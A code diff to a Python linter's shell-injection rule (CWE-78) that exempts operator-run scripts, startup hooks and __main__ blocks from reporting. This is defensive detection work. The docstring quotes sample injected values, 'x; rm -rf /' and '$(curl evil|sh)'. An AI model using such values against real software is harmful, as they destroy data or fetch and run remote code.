@@ -9,6 +9,7 @@ from fastapi_lint.names import argument, is_true, keyword
 from fastapi_lint.prefilter import resolvable
 from fastapi_lint.rule import Default, Severity
 from fastapi_lint.rules.security._flow import LocalValuesRule
+from fastapi_lint.served import SERVED, MainGuardAware
 
 # run their command through a shell only with shell=True
 _SUBPROCESS = {f"subprocess.{f}" for f in ("run", "call", "check_call", "check_output", "Popen")}
@@ -24,7 +25,7 @@ _SHELL_KEYWORD = re.compile(r"\bshell(?:\s|\\\n|#[^\n]*\n)*=")
 _SHELL_CALLS = resolvable(_SHELL)
 
 
-class ShellInjection(LocalValuesRule):
+class ShellInjection(MainGuardAware, LocalValuesRule):
     """
     ## What it does
     Reports a command run through a shell — `subprocess.run/call/check_call/check_output/
@@ -37,6 +38,10 @@ class ShellInjection(LocalValuesRule):
     `info` and a message saying shell=True is merely unnecessary. Values wrapped in
     `shlex.quote(...)` are treated as constant in the same way (quoted, they stay one shell
     word), also reported as `info`.
+
+    Commands run by an operator's code are not reported: scripts and migrations, functions
+    reached only from command-line entry points or startup hooks, and `__main__` blocks
+    (see RULES.md "Served code"); the operator who starts them chooses their input.
 
     ## Why is this bad?
     The shell parses the whole string: a value such as `x; rm -rf /` or `$(curl evil|sh)` in
@@ -65,6 +70,7 @@ class ShellInjection(LocalValuesRule):
     TAGS = ("security",)
     CWE = 78
     SEEDS = ("000",)
+    PROJECT_FACTS = (SERVED,)
 
     @classmethod
     def applies_to(cls, text, options) -> bool:
@@ -88,7 +94,8 @@ class ShellInjection(LocalValuesRule):
         self._judge(node, name, command)
 
     def _judge(self, node: cst.Call, name: str, command: Optional[cst.BaseExpression]) -> None:
-        if command is None:
+        # an operator's script or startup hook runs the commands its operator gives it
+        if command is None or not self.in_served_code():
             return
         short = name.rsplit(".", 1)[-1]
         if self.is_constant(command, sanitizers=_QUOTING):
